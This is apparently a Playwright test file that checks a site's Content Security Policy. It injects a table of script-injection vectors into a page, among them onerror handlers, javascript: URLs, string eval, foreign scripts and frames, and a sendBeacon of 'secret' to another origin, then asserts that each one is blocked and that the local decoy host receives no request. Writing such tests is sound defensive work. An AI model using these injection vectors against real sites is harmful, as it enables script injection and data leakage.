"""What a stranger manages to put into a page neither runs nor asks another host for anything."""

from __future__ import annotations

import functools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from overrides import serve
from tests.browser.conftest import Figure
from tests.conftest import Site, Watch, hosted, until
from tests.reliability import Tally

PLAYGROUND = "filter-playground"
PIXEL = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89\0\0\0\nIDATx\x9cc"
    b"\0\1\0\0\5\0\1\r\n-\xb4\0\0\0\0IEND\xaeB`\x82"
)
# What is put into the page, and the directive that has to stop it. HOST is another origin.
INJECTED = {
    "inline script": ("element('script', { textContent: 'hacked = 1' })", "script-src-elem"),
    "handler": ("markup('<img src=x-missing onerror=\"hacked = 1\">')", "script-src-attr"),
    "program as address": ("visit('javascript:hacked = 1')", "script-src-elem"),
    "text as program": ("setTimeout('hacked = 1')", "script-src"),
    "made function": ("setTimeout(() => Function('hacked = 1')())", "script-src"),
    "foreign script": ("element('script', { src: 'HOST/a.js' })", "script-src-elem"),
    "foreign module": ("import('HOST/a.js').catch(() => {})", "script-src-elem"),
    "foreign picture": ("element('img', { src: 'HOST/a.png' })", "img-src"),
    "foreign style": (
        "element('link', { rel: 'stylesheet', href: 'HOST/a.css' })",
        "style-src-elem",
    ),
    "style element": ("markup('<style>body { display: none }</style>')", "style-src-elem"),
    "style attribute": ("markup('<p style=\"position: fixed\">')", "style-src-attr"),
    "foreign frame": ("element('iframe', { src: 'HOST/' })", "frame-src"),
    "request": ("fetch('HOST/a.json').catch(() => {})", "connect-src"),
    "beacon": ("navigator.sendBeacon('HOST/', 'secret')", "connect-src"),
    "form": ("markup('<form action=\"HOST/\" id=f>'); f.submit()", "form-action"),
    "base": ("element('base', { href: 'HOST/' })", "base-uri"),
    "plug-in": ("element('object', { data: 'HOST/a.png' })", "object-src"),
}
TOOLS = """
  const element = (tag, about) => document.body.append(
    Object.assign(document.createElement(tag), about));
  const markup = (html) => document.body.insertAdjacentHTML("beforeend", html);
  const visit = (href) => {
    const link = Object.assign(document.createElement("a"), { href, textContent: "x" });
    document.body.append(link);
    link.click();
  };
"""
LISTENER = """
  window.stopped = [];
  document.addEventListener("securitypolicyviolation", (event) => {
    stopped.push(event.effectiveDirective);
  });
"""


class Door(serve.Handler):
    """Notes who asks for what."""

    def parse_request(self) -> bool:
        """Note one more request."""
        understood = super().parse_request()
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        return understood


class Stranger(serve.Server):
    """Another origin."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.asked: list[str] = []
        self.RequestHandlerClass: Any = functools.partial(Door, directory=folder, prefix="/")


@pytest.fixture
def stranger(tmp_path: Path) -> Iterator[Stranger]:
    """Serve what a stranger would like to be loaded."""
    (tmp_path / "a.js").write_text("hacked = 1;")
    (tmp_path / "a.css").write_text("body { display: none }")
    (tmp_path / "a.json").write_text("{}")
    (tmp_path / "a.png").write_bytes(PIXEL)
    (tmp_path / "index.html").write_text("<!doctype html><title>Elsewhere</title>")
    with hosted(Stranger(tmp_path)) as server:
        assert isinstance(server, Stranger)
        yield server


@pytest.mark.parametrize("path", [f"demos/{PLAYGROUND}/", "no/such/page/"])
def test_what_is_injected_stays_dead(
    path: str, page: Page, watch: Watch, site: Site, stranger: Stranger, tally: Tally
) -> None:
    """Each kind is stopped by the directive that is meant for it, and the page goes on."""
    tally.count("hostile input: injected into a page", cases=len(INJECTED))
    page.add_init_script(LISTENER)
    page.goto(site.url + path)
    expect(page.locator("h1")).to_be_visible()
    for name, (attack, directive) in INJECTED.items():
        page.evaluate("stopped.length = 0")
        code = attack.replace("HOST", stranger.url.rstrip("/"))
        page.evaluate(f"() => {{ {TOOLS} {code}; }}")
        until(page, "(directive) => stopped.includes(directive)", directive)
        assert page.evaluate("window.hacked") is None, name
    assert stranger.asked == []
    assert page.url == site.url + path
    watch.errors.clear()  # the browser's own words on each
    watch.requests.clear()
    tally.count("hostile input: injected into a page", held=len(INJECTED))


def test_no_cookie_is_ever_set(page: Page, site: Site) -> None:
    """A visit leaves nothing that would be sent along, nor a name that follows the reader."""
    page.goto(f"{site.url}demos/{PLAYGROUND}/")
    Figure(page, PLAYGROUND).is_ready()
    page.goto(f"{site.url}intuition/using/")
    page.locator("[data-act=run]").first.click()
    expect(page.locator(".editor").first).to_have_attribute("data-state", "ready")
    assert page.context.cookies() == []
    assert page.evaluate("document.cookie") == ""
    kept = page.evaluate("[...Object.entries(localStorage), ...Object.entries(sessionStorage)]")
    below = site.url.removeprefix(site.url.split("/lessons")[0])
    assert all(name.startswith(below) for name, _ in kept), kept
